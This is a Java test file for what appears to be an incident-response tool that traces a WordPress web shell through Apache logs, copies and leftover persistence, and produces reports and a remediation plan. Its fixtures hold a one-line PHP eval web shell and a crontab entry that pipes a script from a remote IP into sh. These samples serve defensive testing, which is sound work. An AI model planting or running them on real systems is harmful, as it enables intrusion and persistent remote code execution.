package org.outguard.trace;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.jr.ob.JSON;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.outguard.guard.action.Action;
import org.outguard.guard.action.FileStep;
import org.outguard.headless.Incident;
import org.outguard.headless.IncidentReport;
import org.outguard.headless.PastTrace;
import org.outguard.procfs.PasswdFile;
import org.outguard.procfs.ProcessFacts;
import org.outguard.procfs.TestFiles;
import org.outguard.text.Severity;
import org.outguard.trace.left.Leftover;
import org.outguard.trace.left.Scene;
import org.outguard.trace.tree.ForeignText;
import org.outguard.trace.tree.TreeBounds;
import org.outguard.trace.web.AccessLogs;
import org.outguard.trace.web.WebServers;

/** A small WordPress behind Apache, clean at first; what an intruder does to it is told by its trace. */
class TracerTest {

    private static final String SHELL = "/var/www/shop/wp-content/uploads/2024/03/x7.php";
    private static final String CODE =
            "<?php @ini_set('display_errors', 0); if (isset($_POST['c'])) { @eval(base64_decode($_POST['c'])); }\n";
    private static final Instant WRITTEN = Instant.parse("2024-03-05T03:14:08Z");
    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ENGLISH)
            .withZone(ZoneOffset.UTC);

    @TempDir
    private Path root;

    @BeforeEach
    void cleanMachine() throws IOException {
        write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
        write(
                "/etc/apache2/envvars",
                "unset HOME\nSUFFIX=\nexport APACHE_LOG_DIR=/var/log/apache2$SUFFIX\nexport LANG=C\n");
        write("/etc/apache2/apache2.conf", """
                LogFormat "%h %l %u %t \\"%r\\" %>s %O \\"%{Referer}i\\" \\"%{User-Agent}i\\"" combined
                IncludeOptional sites-enabled/*.conf
                """);
        write("/etc/apache2/sites-enabled/shop.conf", """
                <VirtualHost *:80>
                  ServerName shop.example
                  ServerAlias www.shop.example
                  DocumentRoot /var/www/shop
                  CustomLog ${APACHE_LOG_DIR}/access.log combined
                </VirtualHost>
                """);
        write("/var/www/shop/index.php", "<?php require __DIR__ . '/wp-blog-header.php';\n");
        write("/var/www/shop/wp-includes/version.php", "<?php\n$wp_version = '6.4.2';\n$wp_db_version = 56657;\n");
        write("/var/www/shop/wp-content/uploads/2024/03/cat.jpg", "\u00ff\u00d8 an image");
        write("/var/www/shop/wp-content/plugins/forms/forms.php", "<?php\n/*\n * Version: 2.1\n */\nforms_start();\n");
        write("/var/spool/cron/crontabs/root", "5 4 * * * /usr/bin/certbot renew\n");
        write(
                "/var/log/apache2/access.log",
                line("192.0.2.10", "2024-03-06T08:00:00Z", "GET / HTTP/1.1", 200)
                        + line("192.0.2.10", "2024-03-06T08:00:03Z", "POST /wp-comments-post.php HTTP/1.1", 302));
        gzip(
                "/var/log/apache2/access.log.2.gz",
                line("192.0.2.11", "2024-03-05T03:14:01Z", "POST /wp-login.php HTTP/1.1", 200)
                        + line(
                                "192.0.2.12",
                                "2024-03-05T03:15:00Z",
                                "GET /wp-content/uploads/2024/03/cat.jpg HTTP/1.1",
                                200));
    }

    private void intrude() throws IOException {
        write(SHELL, CODE);
        write("/var/www/shop/wp-content/themes/plain/cache.php", CODE);
        write("/var/spool/cron/crontabs/www-data", "MAILTO=\n*/5 * * * * curl -s http://192.0.2.9/a.sh | sh\n");
        written(SHELL, WRITTEN);
        write("/var/www/shop/wp-admin/boot.php", "<?php boot();\n");
        written("/var/www/shop/wp-admin/boot.php", WRITTEN.plusSeconds(40));
        gzip(
                "/var/log/apache2/access.log.2.gz",
                line("192.0.2.11", "2024-03-05T03:14:01Z", "POST /wp-login.php HTTP/1.1", 200)
                        + line(
                                "203.0.113.66",
                                "2024-03-05T03:14:07Z",
                                "POST /wp-admin/admin-ajax.php?action=upload HTTP/1.1",
                                200)
                        + line(
                                "203.0.113.66",
                                "2024-03-05T03:14:20Z",
                                "GET /wp-content/uploads/2024/03/x7.php HTTP/1.1",
                                200)
                        + line("192.0.2.12", "2024-03-05T03:15:00Z", "POST /wp-comments-post.php HTTP/1.1", 302));
        append(
                "/var/log/apache2/access.log",
                line("198.51.100.7", "2024-03-06T09:00:00Z", "POST //wp-content/uploads/2024/03/x7%2Ephp HTTP/1.1", 200)
                        + line(
                                "198.51.100.7",
                                "2024-03-06T09:00:05Z",
                                "POST /wp-content/uploads/2024/03/x7.php HTTP/1.1",
                                200)
                        + line(
                                "198.51.100.8",
                                "2024-03-06T09:00:09Z",
                                "POST /wp-content/uploads/2024/03/x7.phps HTTP/1.1",
                                404));
    }

    @Test
    void theTraceOfAWebShellTellsHowItCameAndWhatCameWithIt() throws IOException {
        intrude();
        Trace trace = trace(SHELL);
        assertThat(trace.file().orElseThrow().score().orElseThrow().malicious()).isTrue();
        assertThat(trace.site().orElseThrow().names()).containsExactly("shop.example", "www.shop.example");
        assertThat(trace.cms()).contains(new Cms("WordPress", "6.4.2", "/var/www/shop", "", ""));
        Trace.Requests requests = trace.requests().orElseThrow();
        assertThat(requests.count()).isEqualTo(3);
        assertThat(requests.clients()).isEqualTo(2);
        assertThat(requests.callers())
                .extracting(caller -> caller.address() + " " + caller.count())
                .containsExactly("198.51.100.7 2", "203.0.113.66 1");
        assertThat(requests.first().orElseThrow().words())
                .isEqualTo("GET /wp-content/uploads/2024/03/x7.php by 203.0.113.66, answered 200");
        assertThat(requests.first().orElseThrow().log()).isEqualTo("/var/log/apache2/access.log.2.gz");
        assertThat(requests.last().orElseThrow().at()).isEqualTo("2024-03-06T09:00:05Z");
        assertThat(requests.written()).isEqualTo(WRITTEN);
        assertThat(requests.writer().orElseThrow().confidence()).isEqualTo("strong");
        assertThat(requests.writer().orElseThrow().request().words())
                .isEqualTo("POST /wp-admin/admin-ajax.php by 203.0.113.66, answered 200");
        assertThat(requests.writer().orElseThrow().reasons())
                .contains("a POST 1 s before the file was written", "that client was the first to call it");
        assertThat(trace.related())
                .extracting(one -> one.entry().path() + " " + one.how())
                .containsExactly(
                        "/var/www/shop/wp-content/themes/plain/cache.php has the same content",
                        "/var/www/shop/wp-admin/boot.php was changed by the same user 40 s after it");
        assertThat(trace.left())
                .filteredOn(left -> left.severity() == Severity.HIGH)
                .extracting(Leftover::subject)
                .contains("/var/spool/cron/crontabs/www-data:2", "/var/www/shop/wp-content/themes/plain/cache.php");
        assertThat(trace.plan())
                .extracting(Trace.Step::command)
                .containsExactly(
                        "outguard block --from 198.51.100.7 --for 1d",
                        "outguard block --from 203.0.113.66 --for 1d",
                        "outguard disable /var/spool/cron/crontabs/www-data:2",
                        "outguard quarantine " + SHELL,
                        "outguard quarantine /var/www/shop/wp-content/themes/plain/cache.php");
        assertThat(trace.gaps()).isEmpty();
    }

    @Test
    void theReportHasTheChainTheFindingsWhatWasDoneAndWhatIsOpen() throws IOException {
        intrude();
        PastTrace trace = PastTrace.read(TraceReport.json(trace(SHELL), WRITTEN));
        String nothing = report(trace, List.of());
        assertThat(nothing)
                .contains(
                        "How it got in: " + SHELL,
                        "<td>written by</td><td>strong: POST /wp-admin/admin-ajax.php by 203.0.113.66 at 2024-03-05",
                        "<td>first named by</td>",
                        "<td>part of</td><td>WordPress 6.4.2",
                        "the crontab of www-data fetches a script and runs it",
                        "<h2>Open</h2>",
                        "outguard disable /var/spool/cron/crontabs/www-data:2")
                .contains("outguard quarantine " + SHELL)
                .doesNotContain("\u001b");
        Incident.Deed taken = deed("a-1", new FileStep.Quarantine(SHELL));
        assertThat(report(trace, List.of(taken)))
                .contains("outguard disable /var/spool")
                .doesNotContain("outguard quarantine " + SHELL + "<");
        Incident.Deed back = deed("a-2", new FileStep.Restore(SHELL, KEPT, "a-1"));
        assertThat(report(trace, List.of(taken, back))).contains("outguard quarantine " + SHELL + "<");
    }

    private static final FileStep.Kept KEPT =
            new FileStep.Kept("/s", 0644, 33, 33, 1, WRITTEN.toString(), WRITTEN.toString(), "00");

    private static Incident.Deed deed(String id, FileStep step) {
        return new Incident.Deed(new Action(id, WRITTEN, "root", "", step, new Action.Plan("mv", "mv")), "done");
    }

    private static String report(PastTrace trace, List<Incident.Deed> deeds) {
        return IncidentReport.html(new Incident("mail", WRITTEN, WRITTEN, List.of(), deeds, List.of(trace)));
    }

    @Test
    void ofACleanMachineNothingIsSevere() throws IOException {
        Trace trace = trace("/var/www/shop/index.php");
        assertThat(trace.left()).isEmpty();
        assertThat(trace.related())
                .filteredOn(one -> one.how().startsWith("has the same"))
                .isEmpty();
        assertThat(trace.file().orElseThrow().score().orElseThrow().suspicious())
                .isFalse();
        assertThat(trace.requests().orElseThrow().writer()).isEmpty();
        assertThat(trace.gaps()).allMatch(gap -> gap.contains("same ten minutes"));
    }

    @Test
    void aTimeThatWasSetBackHidesNothing() throws IOException {
        intrude();
        written(SHELL, Instant.parse("2019-01-01T00:00:00Z"));
        Instant changed = ((FileTime) Files.getAttribute(file(SHELL), "unix:ctime")).toInstant();
        write(
                "/var/log/apache2/access.log",
                line("203.0.113.70", changed.minusSeconds(1).toString(), "POST /wp-json/forms/v1/put HTTP/1.1", 201)
                        + line(
                                "203.0.113.70",
                                changed.plusSeconds(9).toString(),
                                "GET /wp-content/uploads/2024/03/x7.php HTTP/1.1",
                                200));
        Files.delete(file("/var/log/apache2/access.log.2.gz"));
        Trace.Requests requests = trace(SHELL).requests().orElseThrow();
        assertThat(requests.written()).isEqualTo(changed);
        assertThat(requests.writer().orElseThrow().request().path()).isEqualTo("/wp-json/forms/v1/put");
    }

    @Test
    void aCopyIsNamedHoweverManyFilesCameInTheSameMinutes() throws IOException {
        for (int i = 0; i < 300; i++) {
            write("/var/www/shop/wp-admin/page" + i + ".php", "<?php admin_page(" + i + ");\n");
            write("/var/www/a/page" + i + ".php", "<?php admin_page(" + i + ");\n");
        }
        write(SHELL, CODE);
        write("/var/www/shop/copy.php", CODE);
        write("/srv/www/copy.php", CODE);
        Trace trace = trace(SHELL);
        assertThat(trace.related())
                .filteredOn(one -> one.how().equals("has the same content"))
                .extracting(one -> one.entry().path())
                .containsExactlyInAnyOrder("/var/www/shop/copy.php", "/srv/www/copy.php");
        assertThat(trace.related()).hasSizeLessThan(210);
        assertThat(trace.gaps()).anyMatch(gap -> gap.contains("more files"));
    }

    @Test
    void aScriptWithoutItsFolderIsFoundByWhatItDoes() throws IOException {
        intrude();
        write("/var/www/shop/wp-content/plugins/forms/x7.php", "<?php forms_page();\n");
        Trace trace = trace("x7.php");
        assertThat(trace.file().orElseThrow().entry().path()).isEqualTo(SHELL);
        assertThat(trace.gaps()).singleElement().asString().contains("plugins/forms/x7.php");
    }

    @Test
    void aFileThatIsGoneIsStillTracedInTheLogs() throws IOException {
        intrude();
        Files.delete(file(SHELL));
        Trace trace = trace(SHELL);
        assertThat(trace.file()).isEmpty();
        assertThat(trace.requests().orElseThrow().count()).isEqualTo(3);
        assertThat(trace.gaps()).contains(SHELL + " is not there any more; what it left is looked for all the same");
    }

    @Test
    void withoutAnAccessLogThatIsSaid() throws IOException {
        intrude();
        Files.delete(file("/var/log/apache2/access.log"));
        Files.delete(file("/var/log/apache2/access.log.2.gz"));
        Trace trace = trace(SHELL);
        assertThat(trace.requests().orElseThrow().writer()).isEmpty();
        assertThat(trace.gaps()).anyMatch(gap -> gap.startsWith("no access log was found"));
    }

    @Test
    void theReportSaysItForPeopleAndForPrograms() throws IOException {
        intrude();
        append(
                "/var/log/apache2/access.log",
                line("203.0.113.66", "2024-03-06T10:00:00Z", "GET /wp-content/uploads/2024/03/x7.php HTTP/1.1", 200)
                        .replace("agent", "a\u001b[2Jgent"));
        Trace trace = trace(SHELL);
        assertThat(TraceReport.text(trace))
                .contains(
                        "strong: written by POST /wp-admin/admin-ajax.php by 203.0.113.66, answered 200 at 2024-03-05T03:14:07Z",
                        "first named at 2024-03-05T03:14:20Z by GET ",
                        "part of WordPress 6.4.2 in /var/www/shop",
                        "called 4 times by 2 clients",
                        "3. end what was left: the crontab of www-data fetches a script and runs it")
                .doesNotContain("\u001b");
        String json = TraceReport.json(trace, WRITTEN);
        assertThat(json).doesNotContain("\u001b").doesNotContain("u001b").endsWith("}\n");
        Map<String, Object> all = JSON.std.mapFrom(json);
        assertThat(all).containsEntry("type", "trace").containsEntry("at", "2024-03-05T03:14:08Z");
        assertThat(all.get("requests"))
                .extracting("writtenBy")
                .extracting("client", "method", "confidence")
                .containsExactly("203.0.113.66", "POST", "strong");
        assertThat(all.get("file")).extracting("path").isEqualTo(SHELL);
        assertThat(all.get("cms")).extracting("name", "version").containsExactly("WordPress", "6.4.2");
    }

    @Test
    void howSureTheRunningRequestIsDependsOnWhatTheWorkerSays() throws IOException {
        intrude();
        Instant at = Instant.parse("2024-03-06T09:00:06Z");
        Map<String, List<String>> worker = Map.of("REMOTE_ADDR", List.of("198.51.100.7"));
        assertThat(ran(at, worker).ranConfidence()).isEqualTo("strong");
        assertThat(ran(at, Map.of()).ranConfidence()).isEqualTo("probable");
        assertThat(ran(at.plusSeconds(3_600), Map.of()).ranConfidence()).isEqualTo("weak");
        assertThat(ran(at, worker).ran().orElseThrow().at()).isEqualTo("2024-03-06T09:00:05Z");
    }

    private Trace.Requests ran(Instant at, Map<String, List<String>> worker) {
        return trace(new Question("process 812", Optional.empty(), SHELL, Optional.of(at), List.of(), worker))
                .requests()
                .orElseThrow();
    }

    private Trace trace(String file) {
        return trace(new Question(file, Optional.empty(), file, Optional.empty(), List.of(), Map.of()));
    }

    private Trace trace(Question question) {
        Path proc = Path.of("/proc");
        ForeignText texts = new ForeignText(root, new TestFiles());
        WebServers servers = WebServers.read(texts);
        Scene scene = Scene.of(
                root,
                new TestFiles(),
                servers.roots(texts),
                proc,
                new ProcessFacts(proc, new PasswdFile(root.resolve("etc/passwd"))),
                TreeBounds.USUAL,
                () -> 0,
                () -> false);
        AccessLogs logs = new AccessLogs(texts, 1L << 30, Duration.ofMinutes(1), () -> 0, () -> false);
        return new Tracer(scene, servers, logs, what -> {}).trace(question);
    }

    private static String line(String client, String at, String request, int status) {
        return client + " - - [" + CLF.format(Instant.parse(at)) + "] \"" + request + "\" " + status
                + " 512 \"-\" \"agent/1\"\n";
    }

    private Path file(String path) {
        return root.resolve(path.substring(1));
    }

    private void written(String path, Instant at) throws IOException {
        Files.setLastModifiedTime(file(path), FileTime.from(at));
    }

    private void write(String path, String text) throws IOException {
        Files.createDirectories(file(path).getParent());
        Files.write(file(path), text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private void append(String path, String text) throws IOException {
        write(path, Files.readString(file(path), StandardCharsets.ISO_8859_1) + text);
    }

    private void gzip(String path, String text) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        }
        Files.createDirectories(file(path).getParent());
        Files.write(file(path), packed.toByteArray());
    }
}
